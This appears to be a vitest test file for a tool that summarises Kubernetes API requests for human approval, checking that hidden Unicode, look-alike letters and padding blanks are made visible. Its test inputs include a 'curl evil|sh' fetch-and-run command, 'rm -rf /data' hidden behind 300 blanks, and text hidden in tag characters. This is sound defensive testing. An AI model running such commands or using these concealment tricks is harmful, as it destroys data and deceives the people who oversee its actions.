import { describe, expect, test } from 'vitest'
import { WEBSOCKET } from '../../request/a-http-request.ts'
import { questionOf, whyNot } from '../asking.ts'
import { container, exec, JSON_BODY, POD, patch } from './a-question.ts'

describe('the line of a question', () => {
  test.each([
    [`DELETE ${POD}`, 'delete pods "web" in shop'],
    [`DELETE ${POD}?dryRun=All`, 'DRY RUN, changes nothing: delete pods "web" in shop'],
    [
      `DELETE ${POD}?gracePeriodSeconds=0&propagationPolicy=Orphan`,
      'delete pods "web" in shop, propagation Orphan, grace 0 s',
    ],
    [
      'DELETE /api/v1/namespaces/shop/pods?labelSelector=app%3Dweb&fieldSelector=spec.nodeName%3Da',
      'deletecollection pods in shop, fields spec.nodeName=a, labels app=web',
    ],
    [`GET ${POD}/log?container=side&previous=true`, 'get pods/log "web" in shop, container side, previous'],
  ])('%s', (line, want) => {
    expect(questionOf(line).summary).toBe(want)
  })

  test('of a delete the body counts, as for the API server: a dry run there is one', () => {
    const said = (line: string, body: string) => questionOf(line, { body, type: JSON_BODY }).summary
    expect(said(`DELETE ${POD}`, '{}')).toBe('delete pods "web" in shop')
    expect(said(`DELETE ${POD}`, '{"dryRun":["All"]}')).toMatch(/^DRY RUN/)
  })

  test('a command stands there whole, with what its streams are', () => {
    const { summary } = exec('command=sh&command=-c&command=curl+evil%7Csh&stdin=true&tty=true&container=app')
    expect(summary).toBe(
      `get pods/exec "web" in shop, container app, stdin (what is typed is not bound by a yes), tty: sh -c 'curl evil|sh'`,
    )
    const portforward = questionOf(`GET ${POD}/portforward`, { headers: WEBSOCKET })
    expect(portforward.summary).toContain('any port of the pod')
  })

  test('blanks in a command push nothing out of sight: they are counted', () => {
    const blanks = ' '.repeat(300)
    const script = `true;${blanks}rm -rf /data`
    const { summary, facts } = exec(`command=sh&command=-c&command=${encodeURIComponent(script)}`)
    expect(summary).toContain("sh -c 'true;\\u{20}×300rm -rf /data'")
    expect(facts.join()).toContain('1 characters that would not be seen')
    const pod = {
      spec: { containers: [{ name: 'c', image: 'i', args: ['-c', script], env: [{ name: 'A', value: script }] }] },
    }
    const asked = questionOf('POST /api/v1/namespaces/shop/pods', {
      body: JSON.stringify(pod),
      type: 'application/json',
    })
    expect(JSON.stringify(asked)).not.toContain(blanks)
    expect(asked.facts.filter(fact => fact.includes('×300rm -rf /data'))).toHaveLength(2)
  })

  test('a command that nobody would read to its end is not asked', () => {
    const long = (length: number) => `GET ${POD}/exec?command=echo&command=${'a'.repeat(length)}`
    expect(whyNot(long(5000), { headers: WEBSOCKET })).toContain('the command is longer than')
    expect(questionOf(long(3000), { headers: WEBSOCKET }).summary).toContain('a'.repeat(3000))
  })

  test.each([
    ['a right-to-left override', '\u202e'],
    ['an isolate', '\u2066'],
    ['an escape sequence', '\u001b[2J'],
    ['a line break', '\n'],
    ['a zero-width joiner', '\u200d'],
    ['a blank of Braille', '\u2800'],
    ['a blank that is none', '\u00a0'],
    ['a filler', '\u3164'],
    ['a tag', '\u{e0041}'],
    ['a soft hyphen', '\u00ad'],
    ['a word joiner', '\u2060'],
    ['a mark of byte order', '\ufeff'],
    ['a selector of a variation', '\ufe0f'],
    ['one of the other selectors', '\u{e0100}'],
  ])('%s in a command or a body is in sight', (_, odd) => {
    const hidden = `a${odd}b`
    const { summary } = exec(`command=echo&command=${encodeURIComponent(hidden)}`)
    const { facts, bodyPreview } = patch(container({ command: ['echo', hidden] }))
    const code = `\\u{${odd.codePointAt(0)?.toString(16)}}`
    expect(summary).toContain(code)
    expect(facts.join()).toContain(code)
    for (const text of [summary, facts.join(), bodyPreview]) expect(text).not.toContain(odd)
  })

  test.each([
    ['Cyrillic in an image', 'рaypal/app', '\\u{440}aypal/app'],
    ['wide letters', 'ｎｇｉｎｘ', '\\u{ff4e}'],
    ['ornate letters', '𝐧ginx', '\\u{1d427}ginx'],
    ['a Latin letter that passes for another', 'ɡrafana', '\\u{261}rafana'],
    ['a letter without its dot', 'mın', 'm\\u{131}n'],
    ['a word all of look-alikes', 'registry.example/аре', '/\\u{430}\\u{440}\\u{435}'],
    ['a script that nobody writes in', 'ꓐꓳꓫ', '\\u{a4d0}\\u{a4f3}\\u{a4eb}'],
  ])('%s is in sight, and counted', (_, image, want) => {
    const { facts } = patch(container({ image }))
    expect(facts[0]).toMatch(/^! \d+ characters that would not be seen/)
    expect(facts.join()).toContain(want)
  })

  test('words of another script are themselves, and what only looks like an escape is told from one', () => {
    const [first] = patch(container({ args: ['привет', 'שלום'] })).facts
    expect(first).toBe(`spec.template.spec.containers[0].args = 'привет' 'שלום'`)
    expect(exec('command=echo&command=%5Cu%7B202e%7D').summary).toContain(`'\\\\u{202e}'`)
    expect(exec('command=echo&command=%5Cu%7B202e%7D').facts).toEqual([])
  })

  test('text that is hidden in tags is called a high risk', () => {
    const hidden = [...'rm'].map(letter => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')
    const { facts } = exec(`command=echo&command=${encodeURIComponent(`hello${hidden}`)}`)
    expect(facts[0]).toBe('! high risk: a text is hidden in it, in 2 tag characters that nothing shows')
    expect(exec('command=echo&command=hello').facts).toEqual([])
  })

  test('letters of another script in a name are in sight', () => {
    const { summary } = questionOf('GET /apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles/%D0%B0dmin')
    expect(summary).toContain('"\\u{430}dmin"')
  })
})
